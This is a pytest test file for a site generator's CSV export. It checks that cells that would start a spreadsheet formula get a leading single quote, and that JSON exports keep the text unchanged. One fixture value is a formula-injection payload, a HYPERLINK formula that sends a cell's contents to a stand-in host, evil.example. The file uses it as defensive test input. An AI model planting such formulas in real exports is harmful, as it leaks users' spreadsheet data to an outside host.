"""annotations.csv never hands a spreadsheet a formula: cells that would start one begin with `'`."""

from __future__ import annotations

import csv
import io
import json
import shutil

import pytest

from sitegen import export
from sitegen.pipeline import BuildOptions, make_urls, validate

from .conftest import FIXTURE_CONTENT

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


def annotation(actor: str, correction: str, quote: str, commentary: str) -> str:
    return f"---\nactor: {actor}\nmotives: [trade]\ncorrection: '{correction}'\n---\n> {quote}\n\n{commentary}\n"


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> dict[str, bytes]:
    content = tmp_path_factory.mktemp("formulas") / "content"
    shutil.copytree(FIXTURE_CONTENT, content)
    folder = content / "annotations" / "harbour-report"
    (folder / "trade-first.md").write_text(annotation(
        "northland", HYPERLINK.replace("'", "''"),
        "\"Trade comes first,\" one said, and the 'route' must stay open.", "@SUM(1+1) is what the editor wrote."))
    (folder / "lighthouse.md").write_text(annotation(
        "islanders", "-2+3",
        "The Island Council keeps the lighthouse at the harbour mouth lit for every ship.", "+1 for the council."))
    validated = validate(content)
    return export.data_files(validated.model, validated.index, make_urls(BuildOptions(content=content), validated.model))


def records(files: dict[str, bytes]) -> dict[str, dict[str, str]]:
    rows = list(csv.reader(io.StringIO(files["data/annotations.csv"].decode("utf-8"), newline="")))
    assert tuple(rows[0]) == export.CSV_COLUMNS
    return {row[0]: dict(zip(rows[0], row)) for row in rows[1:]}


def test_cells_that_would_be_formulas_start_with_a_single_quote(exported):
    rows = records(exported)
    trade, lighthouse = rows["harbour-report/trade-first"], rows["harbour-report/lighthouse"]
    assert trade["correction"] == "'" + HYPERLINK
    assert trade["commentary"] == "'@SUM(1+1) is what the editor wrote."
    assert lighthouse["correction"] == "'-2+3"
    assert lighthouse["commentary"] == "'+1 for the council."


def test_ordinary_cells_are_unchanged(exported):
    rows = records(exported)
    trade = rows["harbour-report/trade-first"]
    assert trade["exact"] == "\"Trade comes first,\" one said, and the ‘route’ must stay open."
    assert trade["actor_name"] == "Northland" and trade["motives"] == "trade"
    assert rows["harbour-report/first-to-recognise"]["correction"] == ""
    assert int(trade["start"]) < int(trade["end"])


def test_every_cell_is_quoted(exported):
    text = exported["data/annotations.csv"].decode("utf-8")
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")"' in text
    assert ',"\'-2+3",' in text
    assert text.startswith('"ref","source","annotation",')


def test_the_json_exports_keep_the_text_as_written(exported):
    data = json.loads(exported["data/site.json"])
    corrections = {a["ref"]: a["correction"] for a in data["annotations"]}
    assert corrections["harbour-report/trade-first"] == HYPERLINK
    assert corrections["harbour-report/lighthouse"] == "-2+3"
    assert HYPERLINK.replace('"', '\\"') in exported["data/annotations.jsonld"].decode("utf-8")


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_each_formula_start_is_neutralised(value):
    assert export.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["1=1", " =1", "a-b", "", 12, "’quoted’"])
def test_other_cells_pass_through(value):
    assert export.csv_cell(value) == value
